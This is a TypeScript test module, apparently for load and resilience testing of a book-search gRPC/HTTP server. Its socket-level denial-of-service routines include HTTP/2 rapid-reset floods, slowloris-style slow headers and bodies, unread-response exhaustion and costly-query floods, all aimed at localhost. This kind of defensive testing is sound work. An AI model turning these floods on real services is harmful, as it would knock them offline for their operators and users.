/** What hostile clients do, each for itself, on sockets without a library that minds the rules. */
import { connect, type Socket } from "node:net";
import {
  dataFrame,
  headersFrame,
  pingFrame,
  resetFrame,
  windowFrame,
} from "#server/testing/http2-frames.ts";
import { http2Preface } from "#server/testing/raw-socket.ts";

const search = "/bookfinder.v1.BookService/SearchBooks";
const grpc = { ":path": search, "content-type": "application/grpc", te: "trailers" };
const message = Buffer.from([0, 0, 0, 0, 6, 10, 4, 100, 117, 110, 101]);
const get = "GET /api/books?title=dune HTTP/1.1\r\nhost: a\r\n\r\n";

/** Of those that bench/worst found: misspelt and common words, conditions, exclusions. */
const costly =
  "teh wrold hsitory fo sceince adn lvoe strories form teh owrld year:101..1899 subject:urth " +
  '-(about en jm) -(clark edited three) (little OR p OR "raymond collection") title:(anne cases)';

export type Attack = { name: string; connections: number; open(socket: Socket): void };

function http2(...frames: Uint8Array[]): (socket: Socket) => void {
  return (socket) => void socket.write(Buffer.concat([http2Preface, ...frames]));
}

function every(ms: number, socket: Socket, act: () => void): void {
  const timer = setInterval(act, ms);
  socket.once("close", () => clearInterval(timer));
}

/** Odd numbers, as clients count their streams. */
function ids(count: number, first = 1): number[] {
  return Array.from({ length: count }, (_, index) => first + 2 * index);
}

export const attacks: Attack[] = [
  { name: "silent HTTP/2", connections: 300, open: http2() },
  {
    name: "headers that never end",
    connections: 300,
    open: http2(headersFrame(1, grpc, { endHeaders: false })),
  },
  {
    name: "a body that never comes, with pings",
    connections: 300,
    open(socket) {
      http2(headersFrame(1, grpc))(socket);
      every(1000, socket, () => socket.write(pingFrame()));
    },
  },
  {
    name: "a body at a byte a second",
    connections: 300,
    open(socket) {
      http2(headersFrame(1, grpc))(socket);
      every(1000, socket, () => socket.write(dataFrame(1, Buffer.of(0))));
    },
  },
  {
    name: "unfinished bodies: 128 streams of up to 1 MiB",
    connections: 8,
    open(socket) {
      http2(...ids(128).map((id) => headersFrame(id, grpc)))(socket);
      const chunk = Buffer.alloc(16_000);
      let turn = 0;
      every(5, socket, () => {
        for (const id of ids(4, 1 + 2 * (turn % 124))) {
          socket.write(dataFrame(id, chunk));
        }
        turn += 4;
      });
    },
  },
  {
    name: "answers that nobody reads, HTTP/1.1",
    connections: 200,
    open(socket) {
      socket.pause();
      socket.write(get.repeat(90));
    },
  },
  {
    name: "answers that nobody reads, HTTP/2",
    connections: 50,
    open(socket) {
      socket.pause();
      const calls = ids(120).flatMap((id) => [
        headersFrame(id, grpc),
        dataFrame(id, message, true),
      ]);
      http2(windowFrame(0, 1 << 20), ...calls)(socket);
    },
  },
  {
    name: "1,000 calls reset as they are sent, again and again",
    connections: 8,
    open(socket) {
      http2()(socket);
      let first = 1;
      every(100, socket, () => {
        const calls = ids(1000, first).flatMap((id) => [
          headersFrame(id, grpc),
          dataFrame(id, message, true),
          resetFrame(id),
        ]);
        first += 2000;
        socket.write(Buffer.concat(calls));
      });
    },
  },
  {
    name: "eight who ask for costly searches, again and again",
    connections: 8,
    open(socket) {
      let turn = 0;
      const ask = () => {
        turn += 1;
        const body = JSON.stringify({
          query: `${costly} ${turn}`,
          facets: ["FACET_FIELD_SUBJECT"],
        });
        const length = Buffer.byteLength(body);
        socket.write(
          `POST ${search} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n` +
            `content-length: ${length}\r\n\r\n${body}`,
        );
      };
      // Each answer is one status line; refused ones are asked for again at once.
      socket.on("data", (chunk: Buffer) => {
        if (chunk.includes("HTTP/1.1 ")) {
          ask();
        }
      });
      ask();
    },
  },
  {
    name: "pipelined requests, then gone",
    connections: 200,
    open(socket) {
      socket.write(get.repeat(90));
      setTimeout(() => socket.resetAndDestroy(), 50);
    },
  },
];

/** Keeps so many attackers at it; whoever is cut off comes again. Returns how to stop them. */
export function attackWith({ connections, open }: Attack, port: number): () => void {
  const sockets = new Set<Socket>();
  let isOver = false;
  const begin = () => {
    const socket = connect(port, "127.0.0.1");
    sockets.add(socket);
    socket.on("error", () => {});
    socket.on("data", () => {});
    socket.once("connect", () => open(socket));
    socket.once("close", () => {
      sockets.delete(socket);
      if (!isOver) {
        setTimeout(() => isOver || begin(), 100);
      }
    });
  };
  for (let count = 0; count < connections; count += 1) {
    begin();
  }
  return () => {
    isOver = true;
    for (const socket of sockets) {
      socket.destroy();
    }
  };
}
